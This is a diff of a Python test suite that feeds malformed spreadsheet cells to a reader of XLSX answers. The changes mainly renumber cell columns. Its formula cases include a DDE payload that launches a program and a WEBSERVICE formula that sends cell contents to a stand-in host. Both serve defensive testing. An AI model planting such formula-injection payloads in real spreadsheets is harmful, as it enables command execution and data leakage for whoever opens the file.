@@ -25,7 +25,7 @@ _ERRORS = ("#REF!", "#N/A", "#VALUE!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "
 
 def _date(rest: str) -> Make:
     """The date of implementation of action 2.1."""
-    return with_cells(I4=rest)
+    return with_cells(F4=rest)
 
 
 def _completed(plain: str, *problems: str) -> Read:
@@ -33,7 +33,7 @@ def _completed(plain: str, *problems: str) -> Read:
 
 
 def _formula(text: str, cached: str = "<v>7</v>", kind: str = "") -> Make:
-    return with_cells(P2=f"{kind}><f>{text}</f>{cached}</c>")
+    return with_cells(I2=f"{kind}><f>{text}</f>{cached}</c>")
 
 
 def _formatted(code: str, value: str) -> Make:
@@ -44,7 +44,7 @@ def _formatted(code: str, value: str) -> Make:
         number = xml[: xml.index("</cellXfs>")].partition("<cellXfs")[2].count("<xf ")
         replace_in(into, _STYLES, "</cellXfs>", '<xf numFmtId="199"/></cellXfs>')
         replace_in(into, _STYLES, "</numFmts>", f'<numFmt numFmtId="199" formatCode="{code}"/></numFmts>')
-        set_cells(into, {"I4": f' s="{number}"><v>{value}</v></c>'})
+        set_cells(into, {"F4": f' s="{number}"><v>{value}</v></c>'})
 
     return of_parts(change)
 
@@ -76,29 +76,29 @@ DATES = (
     Kind("a-date-as-text-in-arabic-digits", _date(inline("\u0662/\u0661\u0661/\u0662\u0660\u0661\u0668")),
          Read(_WITHOUT_DATE, ("date-ambiguous",))),
     Kind("a-truth-value-for-a-date", _date(' t="b"><v>1</v></c>'), _NO_DATE),
-    Kind("a-date-for-a-status", with_cells(H4="><v>43406</v></c>"), Read(
+    Kind("a-date-for-a-status", with_cells(E4="><v>43406</v></c>"), Read(
         {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("not-in-list",))),
-    Kind("a-date-for-a-comment", with_cells(P2=' s="26"><v>43406</v></c>'), taken(comment="2018-11-02")),
+    Kind("a-date-for-a-comment", with_cells(I2=' s="25"><v>43406</v></c>'), taken(comment="2018-11-02")),
 )
 NUMBERS = (
-    Kind("a-number-that-is-not-a-number", with_cells(P2="><v>NaN</v></c>"), DAMAGED),
-    Kind("an-infinite-number", with_cells(P2="><v>-INF</v></c>"), DAMAGED),
-    Kind("a-number-too-large-for-any-program", with_cells(P2="><v>1e999</v></c>"), DAMAGED),
-    Kind("a-number-with-an-underscore", with_cells(P2="><v>1_000</v></c>"), DAMAGED),
-    Kind("a-number-in-hexadecimal", with_cells(P2="><v>0x10</v></c>"), DAMAGED),
-    Kind("a-number-with-a-comma", with_cells(P2="><v>1,5</v></c>"), DAMAGED),
-    Kind("a-number-of-ten-thousand-digits", with_cells(P2=f'><v>{"1" * 10_000}</v></c>'), DAMAGED),
-    Kind("a-number-in-other-digits", with_cells(P2="><v>\u0663</v></c>"), taken(comment="3")),
-    Kind("a-number-for-a-comment", with_cells(P2="><v>11</v></c>"), taken(comment="11")),
-    Kind("a-tiny-number-for-a-comment", with_cells(P2="><v>1E-300</v></c>"), taken(comment="1e-300")),
-    Kind("a-number-that-no-binary-fraction-holds", with_cells(P2="><v>0.1</v></c>"), taken(comment="0.1")),
-    Kind("a-truth-value-for-a-comment", with_cells(P2=' t="b"><v>1</v></c>'), taken(comment="TRUE")),
-    Kind("a-truth-value-that-is-neither", with_cells(P2=' t="b"><v>2</v></c>'), DAMAGED),
-    Kind("a-number-for-a-status", with_cells(H4="><v>100</v></c>"), Read(
+    Kind("a-number-that-is-not-a-number", with_cells(I2="><v>NaN</v></c>"), DAMAGED),
+    Kind("an-infinite-number", with_cells(I2="><v>-INF</v></c>"), DAMAGED),
+    Kind("a-number-too-large-for-any-program", with_cells(I2="><v>1e999</v></c>"), DAMAGED),
+    Kind("a-number-with-an-underscore", with_cells(I2="><v>1_000</v></c>"), DAMAGED),
+    Kind("a-number-in-hexadecimal", with_cells(I2="><v>0x10</v></c>"), DAMAGED),
+    Kind("a-number-with-a-comma", with_cells(I2="><v>1,5</v></c>"), DAMAGED),
+    Kind("a-number-of-ten-thousand-digits", with_cells(I2=f'><v>{"1" * 10_000}</v></c>'), DAMAGED),
+    Kind("a-number-in-other-digits", with_cells(I2="><v>\u0663</v></c>"), taken(comment="3")),
+    Kind("a-number-for-a-comment", with_cells(I2="><v>11</v></c>"), taken(comment="11")),
+    Kind("a-tiny-number-for-a-comment", with_cells(I2="><v>1E-300</v></c>"), taken(comment="1e-300")),
+    Kind("a-number-that-no-binary-fraction-holds", with_cells(I2="><v>0.1</v></c>"), taken(comment="0.1")),
+    Kind("a-truth-value-for-a-comment", with_cells(I2=' t="b"><v>1</v></c>'), taken(comment="TRUE")),
+    Kind("a-truth-value-that-is-neither", with_cells(I2=' t="b"><v>2</v></c>'), DAMAGED),
+    Kind("a-number-for-a-status", with_cells(E4="><v>100</v></c>"), Read(
         {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("not-in-list",))),
     Kind("a-reference-that-became-a-number", with_cells(A6="><v>3.1</v></c>"),
          Read(problems=("ref-missing", "ref-unknown"))),
-    Kind("a-reference-that-became-a-date", with_cells(A3=' s="26"><v>43132</v></c>'), Read(
+    Kind("a-reference-that-became-a-date", with_cells(A3=' s="25"><v>43132</v></c>'), Read(
         {k: v for k, v in USUAL.items() if k[0] != "1.2"}, ("ref-missing", "ref-unknown"))),
     Kind("a-reference-that-is-a-number-and-reads-the-same", with_cells(A3="><v>1.2</v></c>"), Read()),
 )
@@ -106,20 +106,20 @@ _FORMULA = taken("formula-in-answer")
 FORMULAS = (
     Kind("a-formula-that-nobody-computed", _formula("1+1", ""), _FORMULA),
     Kind("a-formula-with-its-value", _formula("1+1"), _FORMULA),
-    Kind("a-formula-that-is-a-text", _formula("A2&amp;B2", "<v>text</v>", ' t="str"'), _FORMULA),
+    Kind("a-formula-that-is-a-text", _formula("A2&amp;Q2", "<v>text</v>", ' t="str"'), _FORMULA),
     Kind("a-formula-that-is-an-error", _formula("1/0", "<v>#DIV/0!</v>", ' t="e"'), _FORMULA),
     Kind("a-truth-as-libreoffice-writes-it", _formula("TRUE()", "<v>1</v>", ' t="b"'), taken(comment="TRUE")),
     Kind("a-formula-that-calls-a-program", _formula("cmd|' /C calc'!A0"), _FORMULA),
     Kind("a-formula-that-asks-the-network", _formula("WEBSERVICE(&quot;http://tracker.invalid/&quot;&amp;A2)"), _FORMULA),
     Kind("a-formula-from-another-workbook", _formula("[1]Sheet1!$A$1"), _FORMULA),
     Kind("a-formula-shared-with-another-cell", with_cells(
-        P2='><f t="shared" ref="P2:P3" si="0">A2</f><v>1</v></c>', P3='><f t="shared" si="0"/><v>1</v></c>'),
+        I2='><f t="shared" ref="I2:I3" si="0">A2</f><v>1</v></c>', I3='><f t="shared" si="0"/><v>1</v></c>'),
          Read({k: v for k, v in USUAL.items() if k != ("1.2", "comment")}, ("formula-in-answer",) * 2)),
-    Kind("a-formula-over-an-array", with_cells(P2='><f t="array" ref="P2:P3">A2:A3</f><v>1</v></c>'), _FORMULA),
+    Kind("a-formula-over-an-array", with_cells(I2='><f t="array" ref="I2:I3">A2:A3</f><v>1</v></c>'), _FORMULA),
     Kind("a-formula-of-a-data-table", with_cells(
-        P2='><f t="dataTable" ref="P2:P3" dt2D="1" dtr="1" r1="A2" r2="A3"/><v>1</v></c>'), _FORMULA),
+        I2='><f t="dataTable" ref="I2:I3" dt2D="1" dtr="1" r1="A2" r2="A3"/><v>1</v></c>'), _FORMULA),
     Kind("a-formula-of-a-megabyte", _formula("1+" * 500_000 + "1"), Refusal("too-long")),
-    Kind("a-formula-for-a-status", with_cells(H4=' t="str"><f>H3</f><v>Implemented</v></c>'), Read(
+    Kind("a-formula-for-a-status", with_cells(E4=' t="str"><f>E3</f><v>Implemented</v></c>'), Read(
         {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("formula-in-answer",))),
     Kind("a-formula-for-a-reference", with_cells(A3=' t="str"><f>A2&amp;""</f><v>1.2</v></c>'), Read(
         {k: v for k, v in USUAL.items() if k[0] != "1.2"}, ("ref-missing", "ref-unknown"))),
@@ -130,17 +130,17 @@ FORMULAS = (
 )
 ERRORS = tuple(
     Kind(f"the-error-{error.strip('#!?').replace('/', '').lower().replace('_', '-')}",
-         with_cells(P2=f' t="e"><v>{error}</v></c>'), taken("error-value"))
+         with_cells(I2=f' t="e"><v>{error}</v></c>'), taken("error-value"))
     for error in _ERRORS
 )  # fmt: skip
 EMPTIED = Read(USUAL, ("in-progress-without-comment", "overdue-unexplained"), ("answer-emptied",))
 BLANKS = (
-    Kind("an-error-that-is-none", with_cells(P2=' t="e"><v></v></c>'), EMPTIED),
-    Kind("an-answer-emptied", with_cells(P2="/>"), EMPTIED),
-    Kind("an-answer-of-blanks", with_cells(P2=inline(" \t\u00a0 ")), EMPTIED),
-    Kind("an-answer-of-characters-that-nobody-sees", with_cells(P2=inline("\u200b\u2060\ufeff")), EMPTIED),
+    Kind("an-error-that-is-none", with_cells(I2=' t="e"><v></v></c>'), EMPTIED),
+    Kind("an-answer-emptied", with_cells(I2="/>"), EMPTIED),
+    Kind("an-answer-of-blanks", with_cells(I2=inline(" \t\u00a0 ")), EMPTIED),
+    Kind("an-answer-of-characters-that-nobody-sees", with_cells(I2=inline("\u200b\u2060\ufeff")), EMPTIED),
     Kind("every-answer-emptied", of_parts(lambda into: set_cells(
-        into, {f"{column}{row}": "/>" for column in "HIP" for row in range(2, 7)})),
+        into, {f"{column}{row}": "/>" for column in "EFI" for row in range(2, 7)})),
          Read({}, ("not-yours-to-answer", "overdue-unexplained", *["status-missing"] * 4), ("answer-emptied",))),
 )
 KINDS = (*DATES, *NUMBERS, *FORMULAS, *ERRORS, *BLANKS)
